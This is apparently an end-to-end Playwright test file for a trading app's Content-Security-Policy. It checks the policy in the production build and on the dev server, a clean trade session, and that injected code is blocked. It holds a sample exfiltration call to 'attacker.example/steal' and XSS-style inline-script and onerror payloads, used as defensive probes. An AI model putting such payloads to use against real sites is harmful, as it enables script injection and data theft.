// The Content-Security-Policy (app/csp.ts) is in force where the app is served, lets a whole session
// run without one violation, and stops what an injected script would do: run inline code, call an
// inline handler, style markup inline, send data to another host.
// - the production build as `vite preview` serves it (the other specs' server): the header (with
//   frame-ancestors) and the built page's <meta>, Trusted Types in both, then the demo desk's trade
//   flow (identity, test funds, channel, quote, fill, Risk's uPlot chart, History & audit).
// - the dev server as `npm start` runs it (HMR on, so the React refresh preamble, the page's one
//   inline script, is there; its env from the stack as start.ts passes it): the header with the
//   server's nonce, the preamble run under it, identity and the channels screen. Its page is on
//   another origin than the one the stack's chain, oracle and watchtower answer (their CORS allows
//   the preview's origin only): those calls fail by CORS, not by the policy.
import type { BrowserContext, ConsoleMessage, Page } from '@playwright/test'
import { configToEnv } from '../channel-contract/chain/config.ts'
import { Service } from '../scripts/services.ts'
import { createIdentity, getTestFunds, openDemoChannel, buyPut } from './app.ts'
import { test, expect, newTrader, demoService, appPath, provokesPolicyRefusals, type Stack, workerPort } from './fixtures.ts'

/** This worker's port for the spec's demo desk (fixtures.ts workerPort). */
const demoPort = (): number => workerPort(8781)
const devPort = (): number => workerPort(5293)

interface Violation { directive: string; blocked: string; source: string; line: number }

/** Every violation the pages of this context report, recorded from before their first script runs. */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const w = window as unknown as { __cspViolations: unknown[] }
    w.__cspViolations = []
    window.addEventListener('securitypolicyviolation', (e) => {
      w.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, source: e.sourceFile, line: e.lineNumber })
    }, true)
  })
}

async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations)
}

/** The page's console errors and warnings that speak of the policy (Chromium logs each refusal). */
function recordCspConsole(page: Page): string[] {
  const seen: string[] = []
  page.on('console', (m: ConsoleMessage) => {
    if ((m.type() === 'error' || m.type() === 'warning') && /content security policy|refused to/i.test(m.text())) seen.push(`${m.type()}: ${m.text()}`)
  })
  page.on('pageerror', (e) => {
    if (/content security policy|refused to/i.test(e.message)) seen.push(`pageerror: ${e.message}`)
  })
  return seen
}

/** A policy's text as directives (written here again, not app/csp.ts's parser: the test checks that module). */
function directives(policy: string | null | undefined): Record<string, string[]> {
  expect(policy, 'a Content-Security-Policy').toBeTruthy()
  return Object.fromEntries(policy!.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...sources]) => [name!, sources]))
}

/** What every delivery of the policy says alike (script-src and style-src are checked apart). */
const COMMON = {
  'default-src': ["'none'"],
  'img-src': ["'self'"],
  // A build for the dev chain or none (these tests): the page's own origin and any loopback port.
  'connect-src': ["'self'", 'http://127.0.0.1:*', 'ws://127.0.0.1:*'],
  'object-src': ["'none'"],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
}

/** Trusted Types, in a build's policy only (app/csp.ts: Vite's dev overlay writes innerHTML). */
const TRUSTED_TYPES = { 'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"] }

/**
 * What an injected script would try, each of which the policy must stop: `inject` runs in the page
 * (it sets window.__injected, marks what it adds with data-csp-probe, styles #csp-styled red inline,
 * and returns the sinks that threw), then a request to another host. Checks that nothing ran, the
 * style did not apply, the request was refused, and each of the page's `policies` (the header and
 * the <meta>: each reports its own) reported `expected` (directive -> count). Returns what threw.
 */
async function expectInjectionStopped(page: Page, policies: number, expected: Readonly<Record<string, number>>, inject: () => string[]): Promise<{ thrown: string[]; reported: Violation[] }> {
  await page.evaluate(() => {
    (window as unknown as { __cspViolations: unknown[] }).__cspViolations = []
  })
  const thrown = await page.evaluate(inject)
  const sent = await page.evaluate(() => fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' }).then(() => 'sent', () => 'refused'))
  await page.waitForTimeout(500)
  const outcome = await page.evaluate(() => {
    const color = getComputedStyle(document.getElementById('csp-styled')!).color
    document.querySelectorAll('[data-csp-probe]').forEach((e) => e.remove())
    return { ran: (window as unknown as { __injected: string[] }).__injected, color }
  })
  expect(outcome.ran, 'injected code that ran').toEqual([])
  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
  expect(sent).toBe('refused')
  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
    .toEqual(Object.entries(expected).flatMap(([d, n]) => Array<string>(n * policies).fill(d)).sort())
  const reported = await violations(page)
  expect(reported.find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
  return { thrown, reported }
}

/**
 * Under a build's policy, with Trusted Types: each sink that takes markup or code refuses a string
 * (throws), so nothing is parsed; what is left (a script element's child text, a style attribute, a
 * request to another host) the policy stops and reports.
 */
async function expectInjectionBlockedWithTrustedTypes(page: Page, policies: number): Promise<void> {
  // Each policy reports each: the four sinks and the script's child text (Trusted Types), the style, the request.
  const { thrown } = await expectInjectionStopped(page, policies, { 'require-trusted-types-for': 5, 'style-src-attr': 1, 'connect-src': 1 }, () => {
    (window as unknown as { __injected: string[] }).__injected = []
    const thrown: string[] = []
    const attempt = (sink: string, f: () => unknown) => {
      try {
        f()
      } catch (e) {
        thrown.push(`${sink}: ${(e as Error).name}`)
      }
    }
    const script = document.createElement('script')
    attempt('script text', () => (script.textContent = 'window.__injected.push("script text")'))
    const box = document.createElement('div')
    attempt('innerHTML', () => (box.innerHTML = '<img src="/csp-probe-missing.png" onerror="window.__injected.push(\'markup\')">'))
    const img = document.createElement('img')
    attempt('on* attribute', () => img.setAttribute('onerror', 'window.__injected.push("handler")'))
    attempt('DOMParser', () => new DOMParser().parseFromString('<p>x</p>', 'text/html'))
    // Text put into a <script> as a node, not through a sink: checked when the script would run.
    const child = document.createElement('script')
    child.dataset.cspProbe = ''
    child.append(document.createTextNode('window.__injected.push("script child text")'))
    document.body.append(child)
    const styled = document.createElement('p')
    styled.id = 'csp-styled'
    styled.dataset.cspProbe = ''
    styled.textContent = 'x'
    styled.setAttribute('style', 'color: rgb(255, 0, 0)')
    document.body.append(styled)
    return thrown
  })
  expect(thrown, 'sinks that refused a string').toEqual(['script text: TypeError', 'innerHTML: TypeError', 'on* attribute: TypeError', 'DOMParser: TypeError'])
}

/** Without Trusted Types (the dev server): an inline <script>, an inline event handler and a style="" attribute in markup. */
async function expectInjectionBlocked(page: Page, policies: number): Promise<void> {
  const { reported } = await expectInjectionStopped(page, policies, { 'connect-src': 1, 'script-src-attr': 1, 'script-src-elem': 1, 'style-src-attr': 1 }, () => {
    (window as unknown as { __injected: string[] }).__injected = []
    const script = document.createElement('script')
    script.dataset.cspProbe = ''
    script.textContent = 'window.__injected.push("inline script")'
    document.body.append(script)
    const box = document.createElement('div')
    box.dataset.cspProbe = ''
    box.innerHTML = '<img src="/csp-probe-missing.png" onerror="window.__injected.push(\'inline handler\')"><p id="csp-styled" style="color: rgb(255, 0, 0)">x</p>'
    document.body.append(box)
    return []
  })
  expect(reported.find((v) => v.directive === 'script-src-elem')?.blocked).toBe('inline')
}

test('production build: the policy is sent and in the page, a demo desk trade runs without a violation, injected code is stopped', async ({ browser, stack }) => {
  test.setTimeout(150_000)
  const demo = demoService(stack, demoPort())
  await demo.start()
  try {
    const trader = await newTrader(browser, stack, 'csp', `&demo=${encodeURIComponent(`http://127.0.0.1:${demoPort()}`)}`)
    await recordViolations(trader.context)
    const page = trader.page
    const cspConsole = recordCspConsole(page)
    const res = await page.goto(`${appPath(stack)}&demo=${encodeURIComponent(`http://127.0.0.1:${demoPort()}`)}`)

    // The header: the whole policy, frame-ancestors with it (a header alone can carry it).
    const header = directives(res!.headers()['content-security-policy'])
    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], 'frame-ancestors': ["'none'"], ...TRUSTED_TYPES })
    // The built page's own copy (for a static host that sends no header): the same, less frame-ancestors.
    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]')
    await expect(meta).toHaveCount(1)
    expect(directives(await meta.getAttribute('content'))).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], ...TRUSTED_TYPES })

    await createIdentity(page)
    await expect(page.getByRole('button', { name: 'New channel' })).toBeVisible()
    await getTestFunds(page)
    await openDemoChannel(page)
    await buyPut(page, '0.1')
    await page.getByRole('tab', { name: 'Risk' }).click()
    await expect(page.locator('.uplot canvas').first()).toBeVisible()
    await expect(page.getByTestId('pnl-at-spot')).toBeVisible()
    await page.getByRole('tab', { name: 'History & audit' }).click()
    await expect(page.getByTestId('signed-states').locator('tbody tr').first()).toContainText('both signed · verified')

    expect(await violations(page), 'CSP violations in the session').toEqual([])
    expect(cspConsole, 'console messages about the policy').toEqual([])

    // Both policies stop it, each on its own: the header's and the <meta>'s.
    provokesPolicyRefusals(trader.context)
    await expectInjectionBlockedWithTrustedTypes(page, 2)
    await trader.context.close()
  } catch (e) {
    console.log(`[desk log]\n${demo.tail(60)}`)
    throw e
  } finally {
    await demo.stop()
  }
})

/** The app on the Vite dev server, started as scripts/start.ts starts it (HMR on, services by env). */
function devServer(stack: Stack): Service {
  return new Service({
    name: 'vite dev',
    cmd: ['npx', 'vite', '--port', String(devPort()), '--strictPort'],
    env: {
      // Its own dependency cache (parallel e2e runs must not re-optimize each other's).
      VITE_CACHE_DIR: `../node_modules/.vite-csp-${devPort()}`,
      VITE_SIGNALING_URL: stack.signalingUrl,
      VITE_DEMO_URL: `http://127.0.0.1:${demoPort()}`,
      ...configToEnv(stack.chainConfig, 'VITE_'),
    },
    ready: /Local:|ready in/,
    timeoutMs: 90_000,
  })
}

test('dev server (npm start): the policy with its nonce is sent, the React refresh preamble runs under it, no violation, injected code is stopped', async ({ browser, stack }) => {
  test.setTimeout(150_000)
  const dev = devServer(stack)
  await dev.start()
  try {
    const context = await browser.newContext()
    await recordViolations(context)
    const page = await context.newPage()
    const cspConsole = recordCspConsole(page)
    const res = await page.goto(`http://127.0.0.1:${devPort()}/`)

    const header = directives(res!.headers()['content-security-policy'])
    const nonce = /^'nonce-([A-Za-z0-9+/=_-]{16,})'$/.exec(header['script-src']?.[1] ?? '')?.[1]
    expect(nonce, `script-src ${header['script-src']?.join(' ')}`).toBeTruthy()
    // 'self' and the nonce only: no 'unsafe-inline', no 'unsafe-eval', not even in development.
    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'", `'nonce-${nonce}'`], 'style-src': ["'self'", `'nonce-${nonce}'`], 'frame-ancestors': ["'none'"] })
    // The preamble (inline) ran: React refresh's hook is in place, and the modules it guards loaded.
    await expect.poll(() => page.evaluate(() => typeof (window as unknown as { $RefreshReg$?: unknown }).$RefreshReg$)).toBe('function')
    // Vite's client put the imported CSS in <style> tags carrying the nonce, and the browser applied them.
    expect(await page.locator('style[data-vite-dev-id]').count()).toBeGreaterThan(0)
    await expect(page.locator('body')).toHaveCSS('margin-top', '0px') // styles.css: body { margin: 0 }; a browser's own is 8px

    await createIdentity(page)
    await expect(page.getByRole('button', { name: 'New channel' })).toBeVisible()
    await page.getByRole('button', { name: 'Trade with demo desk' }).click()

    expect(await violations(page), 'CSP violations in the session').toEqual([])
    expect(cspConsole, 'console messages about the policy').toEqual([])
    await expectInjectionBlocked(page, 1)
    await context.close()
  } catch (e) {
    console.log(`[vite dev output]\n${dev.tail(60)}`)
    throw e
  } finally {
    await dev.stop()
  }
})
